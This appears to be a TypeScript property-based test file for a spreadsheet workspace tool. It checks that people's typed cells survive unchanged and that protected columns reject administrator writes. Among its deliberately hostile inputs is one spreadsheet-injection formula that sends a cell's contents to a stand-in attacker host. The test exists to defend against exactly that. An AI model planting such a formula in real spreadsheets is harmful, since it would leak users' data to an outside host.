import fc from 'fast-check';
import { requestFor } from '../../src/commands/story/story-referrals.ts';
import { tabs } from '../../src/workbook/layout.ts';
import type { WorkspaceRequest } from '../../src/workspace/request.ts';
import { WorkspaceError } from '../../src/workspace/workspace-error.ts';
import type { GivenWorkbook } from '../given/given-workbook.ts';
import { administrator, given, roleAccount } from '../given/given-workbook.ts';
import { placeOf, write } from '../given/hands.ts';
import { peoplesCells } from '../given/whose-cells.ts';

const keyed = tabs.filter((tab) => tab.order === 'append');

const agendaReady = given((workbook) => {
  const references = ['Alpha', 'Beta', 'Gamma'].map((letter, index) =>
    workbook.refer(requestFor(letter, index + 1)),
  );
  workbook.goTo('2026-11-24T09:00:00');
  workbook.turn();
  return references;
});

/** Every key of every tab with what people have in their columns there. */
const everyonesCells = (workbook: GivenWorkbook): Readonly<Record<string, unknown>> => {
  const snapshot = workbook.read();
  return Object.fromEntries(keyed.map(({ id }) => [id, peoplesCells(snapshot, id)]));
};

const writes = (requests: readonly WorkspaceRequest[]): string =>
  JSON.stringify(requests.filter(({ method }) => method === 'sheets.spreadsheets.batchUpdate'));

const nasty = [
  '=IMPORTXML("http://evil.example/"&A1,"//a")',
  '{{decision}}',
  '$& $1 $`',
  'two\nlines',
  '👩‍👧 emoji',
  '\u202Eright to left',
  'a@council.example, b@council.example',
  'x'.repeat(50_000),
];
const wordColumns = keyed.flatMap((tab) =>
  tab.columns.flatMap((column) =>
    column.owner === 'people' && column.shows === 'text'
      ? [{ tab: tab.id, column: column.id }]
      : [],
  ),
);

describe('one writer per column', () => {
  it('leaves every cell of every people’s column as it was typed, whatever is typed', () => {
    const typing = fc.record({
      where: fc.constantFrom(...wordColumns),
      row: fc.nat(50),
      text: fc.constantFrom(...nasty, '2026-12-02', '30', 'Invented reason'),
    });
    fc.assert(
      fc.property(fc.array(typing, { minLength: 1, maxLength: 6 }), (all) => {
        const { given: workbook } = agendaReady();
        for (const { where, row, text } of all) {
          const keys = [...(workbook.read().tabs.get(where.tab)?.rowOf.keys() ?? [])];
          const key = keys[row % Math.max(1, keys.length)];
          if (key !== undefined) workbook.type(where.tab, key, where.column, text);
        }
        const before = everyonesCells(workbook);
        workbook.forget();
        workbook.goTo('2026-11-24T11:30:00');
        workbook.turn(administrator);
        const asked = workbook.asked();
        const after = everyonesCells(workbook);
        for (const { id } of keyed) expect(after[id]).toMatchObject(before[id] as object);
        expect(writes(asked).includes('formulaValue')).toBe(false);
      }),
      { numRuns: 6 },
    );
  });

  it('refuses an administrator’s write to a product column, and takes one to their own', () => {
    const { given: workbook, known } = agendaReady();
    const [reference = ''] = known;
    const status = placeOf(workbook, 'referrals', reference, 'status');
    const why = placeOf(workbook, 'referrals', reference, 'withdraw');
    const attempt = (): void => {
      write(workbook, status, { stringValue: 'Approved' }, administrator);
    };
    expect(attempt).toThrow(WorkspaceError);
    expect(attempt).toThrow('protected cell');
    write(workbook, why, { stringValue: 'Invented' }, administrator);
    expect(() => {
      write(workbook, status, { stringValue: 'x' }, roleAccount);
    }).not.toThrow();
  });

  it.each(['start', 'todo', 'agenda', 'log'])('keeps the whole of %s from administrators', (id) => {
    const { given: workbook } = agendaReady();
    const sheetId = tabs.find((tab) => tab.id === id)?.sheetId ?? -1;
    expect(() => {
      write(
        workbook,
        { sheetId, rowIndex: 1, columnIndex: 0 },
        { stringValue: 'x' },
        administrator,
      );
    }).toThrow('protected cell');
  });
});
